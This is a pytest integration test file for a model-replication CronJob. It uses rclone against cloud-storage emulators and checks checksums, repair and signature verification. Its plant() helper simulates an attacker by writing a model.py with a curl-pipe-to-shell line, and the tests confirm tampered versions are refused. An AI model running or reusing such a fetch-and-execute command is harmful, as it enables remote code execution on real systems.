"""The model sync for real: the script and rclone configuration the CronJob runs (components/model_sync/rclone.py),
run by rclone v1.75 (requirements-dev.txt) against local emulators standing in for the three clouds
(tests/emulators/storage.py).

What differs from the cluster, and only that: each remote's `auth` options (static keys, anonymous access or
Azurite's key, and the emulators' loopback endpoints, instead of workload identity: rclone.py's s3/gcs/azure
options are the same), the S3 addressing style those endpoints need, and the environment (no cloud variables; one
retry instead of rclone's 3 so a failure shows at once; less parallelism and shorter network timeouts for the
single-threaded GCS emulator). The script and the publisher's script are the functions' output, byte for byte.
"""

from __future__ import annotations

import os
import random
import shutil
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from mlplatform_client import signing

from components import model_signature
from components.model_sync import identity_aws, identity_azure, identity_gcp
from components.model_sync.rclone import MANIFESTS, fetch_manifests_script, publish_script, sync_script
from components.rclone import MARKER, SIGNATURE, Remote, azure_remote, gcs_remote, rclone_config, s3_remote
from tests.emulators.storage import AZURITE_ACCOUNT, Emulators, running_emulators, unknown_rclone_options

REGION = "us-east-1"
FILE_BYTES = 256 * 1024  # small enough to be quick, large enough to cut a transfer in the middle


@dataclass
class World:
    """The emulators, one primary and three replicas (S3, GCS, Azure), and how to run rclone against them."""

    emulators: Emulators
    workdir: Path
    source: Remote
    replicas: list[Remote]
    kms_key: str
    public_key: str

    def env(self, **extra: str) -> dict[str, str]:
        scrubbed = {
            key: value
            for key, value in os.environ.items()
            if not key.startswith(("AWS_", "GOOGLE_", "AZURE_", "RCLONE_"))
        }
        return {
            **scrubbed,
            "HOME": str(self.workdir),
            "RCLONE_CONFIG": str(self.workdir / "rclone.conf"),
            "RCLONE_RETRIES": "1",
            "RCLONE_LOW_LEVEL_RETRIES": "1",
            # gcp-storage-emulator answers one request at a time (http.server.HTTPServer, listen backlog 5): fewer
            # parallel connections than rclone's 8 checkers + 4 transfers, and a connect timeout, so a connection the
            # kernel did not queue fails in seconds instead of waiting out SYN retries.
            "RCLONE_CHECKERS": "2",
            "RCLONE_TRANSFERS": "2",
            "RCLONE_CONTIMEOUT": "10s",
            "RCLONE_TIMEOUT": "30s",
            **extra,
        }

    def run(self, *args: str, **extra: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            list(args), env=self.env(**extra), cwd=self.workdir, capture_output=True, text=True, timeout=90, check=False
        )

    def rclone(self, *args: str) -> str:
        done = self.run("rclone", *args)
        assert done.returncode == 0, done.stderr
        return done.stdout

    def sync(self, **extra: str) -> subprocess.CompletedProcess[str]:
        """One CronJob run, step by step as its pod runs them, in a fresh directory (the pod's emptyDir): fetch the
        source's markers and signatures (rclone), verify them (components/model_signature.py with the standard
        library only: -I -S), then sync (rclone). Returns the sync's output after the verify step's lines."""
        manifests = self.workdir / "manifests"
        shutil.rmtree(manifests, ignore_errors=True)
        manifests.mkdir()
        fetched = self.run("sh", str(self.workdir / "fetch.sh"), **{MANIFESTS: str(manifests)})
        assert fetched.returncode == 0, fetched.stderr
        script = str(self.workdir / "model_signature.py")
        verified = self.run(sys.executable, "-I", "-S", script, "tree", self.public_key, str(manifests))
        assert verified.returncode == 0, verified.stderr
        done = self.run("sh", str(self.workdir / "sync.sh"), **{MANIFESTS: str(manifests)}, **extra)
        return subprocess.CompletedProcess(done.args, done.returncode, verified.stdout + done.stdout, done.stderr)

    def publish(self, version: str, files: dict[str, bytes]) -> None:
        local = self.workdir / "local" / version
        for name, data in files.items():
            (local / name).parent.mkdir(parents=True, exist_ok=True)
            (local / name).write_bytes(data)
        done = self.run(
            "sh",
            str(self.workdir / "publish.sh"),
            str(local),
            f"{self.source.root}/{version}",
            MODEL_SIGNING_KEY=str(self.workdir / "publisher.pem"),
            MODEL_SIGNER=f"{sys.executable} -m mlplatform_client.signing",
        )
        assert done.returncode == 0, done.stderr

    def sums(self, remote: Remote, version: str) -> dict[str, str]:
        """path -> MD5 of every object under the version, as the store reports it (marker included)."""
        listing = self.rclone("md5sum", f"{remote.root}/{version}")
        return {line.split("  ", 1)[1]: line.split("  ", 1)[0] for line in listing.splitlines() if line}

    def visible(self, remote: Remote) -> set[str]:
        """The versions a reader may load: those with a marker."""
        listing = self.rclone("lsf", "--recursive", "--files-only", "--include", f"**/{MARKER}", remote.root)
        return {line.removesuffix(f"/{MARKER}") for line in listing.splitlines() if line}


def model(seed: int, names: list[str]) -> dict[str, bytes]:
    """A Triton model repository's files with random (seeded) bytes."""
    generator = random.Random(seed)
    return {name: generator.randbytes(FILE_BYTES) for name in names}


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    workdir = tmp_path_factory.mktemp("model-sync")
    with running_emulators(workdir) as emulators:
        kms_key = str(emulators.aws("kms").create_key()["KeyMetadata"]["Arn"])
        for bucket in ("primary-models", "replica-models"):
            emulators.create_s3_bucket(bucket, kms_key)
        emulators.create_gcs_bucket("gcs-models")
        source = s3_remote("aws-primary", "primary-models", REGION, kms_key, emulators.s3_auth())
        replicas = [
            s3_remote("aws-replica", "replica-models", REGION, kms_key, emulators.s3_auth()),
            gcs_remote("gcp-replica", "gcs-models", emulators.gcs_auth()),
            azure_remote("azure-replica", AZURITE_ACCOUNT, "models", emulators.azure_auth()),
        ]
        (workdir / "rclone.conf").write_text(rclone_config([source, *replicas]))
        (workdir / "sync.sh").write_text(sync_script(source, replicas))
        (workdir / "publish.sh").write_text(publish_script())
        (workdir / "fetch.sh").write_text(fetch_manifests_script(source))
        (workdir / "model_signature.py").write_text(model_signature.script())
        private, public = signing.generate_key()
        (workdir / "publisher.pem").write_bytes(private)
        state = World(emulators, workdir, source, replicas, kms_key, public)
        state.rclone("mkdir", replicas[2].root)  # the Azure container (ModelBucket makes it in a cluster)
        yield state


def copied(output: str) -> list[str]:
    """rclone's INFO lines for objects it wrote."""
    return [line for line in output.splitlines() if ": Copied (" in line]


def test_a_new_version_appears_in_every_bucket_with_the_same_checksums(world: World) -> None:
    world.publish("fraud-detection/v1", model(1, ["fraud-detection/config.pbtxt", "fraud-detection/1/model.onnx"]))
    done = world.sync()
    assert done.returncode == 0, done.stdout + done.stderr
    expected = world.sums(world.source, "fraud-detection/v1")
    assert MARKER in expected and SIGNATURE in expected and len(expected) == 4
    for replica in world.replicas:
        assert world.sums(replica, "fraud-detection/v1") == expected, replica.name
        assert world.visible(replica) == {"fraud-detection/v1"}
    # SSE-KMS with the bucket's key, and rclone's MD5 kept beside the object (the ETag is not one under SSE-KMS).
    head = world.emulators.aws("s3").head_object(
        Bucket="replica-models", Key="fraud-detection/v1/fraud-detection/1/model.onnx"
    )
    assert (head["ServerSideEncryption"], head["SSEKMSKeyId"]) == ("aws:kms", world.kms_key)
    assert "md5chksum" in head["Metadata"]


def test_an_unchanged_version_is_not_copied_again(world: World) -> None:
    done = world.sync()
    assert done.returncode == 0, done.stdout + done.stderr
    assert copied(done.stderr) == []
    assert done.stdout.count("fraud-detection/v1: up to date") == len(world.replicas)


def test_a_corrupted_copy_is_detected_and_repaired(world: World) -> None:
    replica = world.replicas[1]  # GCS
    damaged = f"{replica.root}/fraud-detection/v1/fraud-detection/1/model.onnx"
    bad = world.workdir / "bad.onnx"
    bad.write_bytes(random.Random(99).randbytes(FILE_BYTES))  # same size, other bytes
    world.rclone("copyto", str(bad), damaged)
    expected = world.sums(world.source, "fraud-detection/v1")
    assert world.sums(replica, "fraud-detection/v1") != expected

    done = world.sync()
    assert done.returncode == 0, done.stdout + done.stderr
    assert [line.split("INFO  : ", 1)[1] for line in copied(done.stderr)] == [
        "fraud-detection/1/model.onnx: Copied (replaced existing)",
        f"{MARKER}: Copied (new)",  # the signature there is already the source's: rclone leaves it
    ]
    assert world.sums(replica, "fraud-detection/v1") == expected


def test_a_run_cut_half_way_leaves_no_reader_a_half_written_version(world: World) -> None:
    files = model(2, ["fraud-detection/config.pbtxt", "fraud-detection/1/a.bin", "fraud-detection/1/b.bin"])
    world.publish("fraud-detection/v2", files)
    # One transfer at a time, stopped after one and a half files: every replica gets part of v2.
    done = world.sync(
        RCLONE_TRANSFERS="1", RCLONE_MAX_TRANSFER=f"{FILE_BYTES * 3 // 2}B"
    )  # B: rclone reads a bare number as KiB
    assert done.returncode != 0
    assert done.stdout.count("fraud-detection/v2: FAILED") == len(world.replicas)
    for replica in world.replicas:
        partial = world.sums(replica, "fraud-detection/v2")
        assert 0 < len(partial) < len(files) and MARKER not in partial, replica.name
        assert world.visible(replica) == {"fraud-detection/v1"}  # readers see v1 only

    done = world.sync()
    assert done.returncode == 0, done.stdout + done.stderr
    expected = world.sums(world.source, "fraud-detection/v2")
    for replica in world.replicas:
        assert world.sums(replica, "fraud-detection/v2") == expected, replica.name
        assert world.visible(replica) == {"fraud-detection/v1", "fraud-detection/v2"}


def test_a_version_still_being_published_is_not_copied(world: World) -> None:
    """Files without their marker at the source (the publisher has not finished) stay at the source."""
    local = world.workdir / "unfinished"
    local.mkdir()
    (local / "model.onnx").write_bytes(random.Random(3).randbytes(1024))
    world.rclone("copy", str(local), f"{world.source.root}/fraud-detection/v3")
    done = world.sync()
    assert done.returncode == 0, done.stdout + done.stderr
    assert "v3" not in done.stdout
    for replica in world.replicas:
        assert world.rclone("lsf", f"{replica.root}/fraud-detection/") == "v1/\nv2/\n", replica.name


def plant(world: World, version: str, *, rewrite_manifest: bool) -> None:
    """Someone who may write the primary but holds no signing key: a new model.py in a published version, and
    (optionally) a manifest rewritten to match it, the old signature left in place."""
    root = f"{world.source.root}/{version}"
    planted = world.workdir / "planted.py"
    planted.write_bytes(b"import os; os.system('curl evil | sh')\n")
    world.rclone("copyto", str(planted), f"{root}/fraud-detection/1/model.py")
    if rewrite_manifest:
        manifest = world.workdir / "planted-manifest"
        manifest.write_text(world.rclone("md5sum", root, "--exclude", f"/{MARKER}", "--exclude", f"/{SIGNATURE}"))
        world.rclone("copyto", str(manifest), f"{root}/{MARKER}")


def test_a_planted_model_with_a_rewritten_manifest_is_not_copied_anywhere(world: World) -> None:
    world.publish("fraud-detection/v4", model(4, ["fraud-detection/config.pbtxt", "fraud-detection/1/model.onnx"]))
    plant(world, "fraud-detection/v4", rewrite_manifest=True)
    done = world.sync()
    assert done.returncode == 1
    said = done.stdout.splitlines()
    assert said[0] == (
        "verify-model: fraud-detection/v4: its manifest's signature does not verify with the stack's public key: "
        "refused, not copied"
    )
    assert f"model-sync: {world.source.root} fraud-detection/v4: its manifest's signature" in done.stdout
    for replica in world.replicas:
        assert "fraud-detection/v4" not in world.visible(replica), replica.name
        assert world.rclone("lsf", f"{replica.root}/fraud-detection/") == "v1/\nv2/\n", replica.name
    world.rclone("purge", f"{world.source.root}/fraud-detection/v4")


def test_an_unsigned_version_is_not_copied_anywhere(world: World) -> None:
    local = world.workdir / "unsigned"
    (local / "fraud-detection/1").mkdir(parents=True)
    (local / "fraud-detection/1/model.onnx").write_bytes(random.Random(5).randbytes(1024))
    done = world.run("sh", str(world.workdir / "publish.sh"), str(local), f"{world.source.root}/fraud-detection/v5")
    assert done.returncode == 0, done.stderr
    done = world.sync()
    assert done.returncode == 1
    assert "verify-model: fraud-detection/v5: it has no signature: refused, not copied" in done.stdout
    for replica in world.replicas:
        assert "fraud-detection/v5" not in world.visible(replica), replica.name
    world.rclone("purge", f"{world.source.root}/fraud-detection/v5")


def test_a_planted_file_under_a_signed_manifest_stays_at_the_source(world: World) -> None:
    """The file changes but the signed manifest does not: the source no longer matches it, nothing is copied."""
    world.publish("fraud-detection/v6", model(6, ["fraud-detection/config.pbtxt", "fraud-detection/1/model.onnx"]))
    plant(world, "fraud-detection/v6", rewrite_manifest=False)
    done = world.sync()
    assert done.returncode == 1
    assert f"{world.source.root} fraud-detection/v6: does not match its manifest, not copied" in done.stdout
    for replica in world.replicas:
        assert "fraud-detection/v6" not in world.visible(replica), replica.name
    world.rclone("purge", f"{world.source.root}/fraud-detection/v6")


def test_every_option_the_cronjob_and_this_test_use_is_an_option_of_rclone() -> None:
    """The test's rclone is the pinned image's v1.75 and knows every option either side uses."""
    cluster = [
        s3_remote("a", "b", REGION, "arn:aws:kms:us-east-1:1:key/k", identity_aws.web_identity_auth("a")),
        gcs_remote("g", "b", identity_gcp.ENV_AUTH),
        azure_remote("z", "acct", "models", identity_azure.ENV_AUTH),
    ]
    emulators = Emulators(1, 2, 3)
    test = [
        s3_remote("a", "b", REGION, "k", emulators.s3_auth()),
        gcs_remote("g", "b", emulators.gcs_auth()),
        azure_remote("z", "acct", "models", emulators.azure_auth()),
    ]
    assert unknown_rclone_options(cluster + test) == set()
    # The cluster and the test share every storage option; only auth differs.
    assert [r.options for r in cluster[1:]] == [r.options for r in test[1:]]
    assert cluster[0].options.keys() == test[0].options.keys()
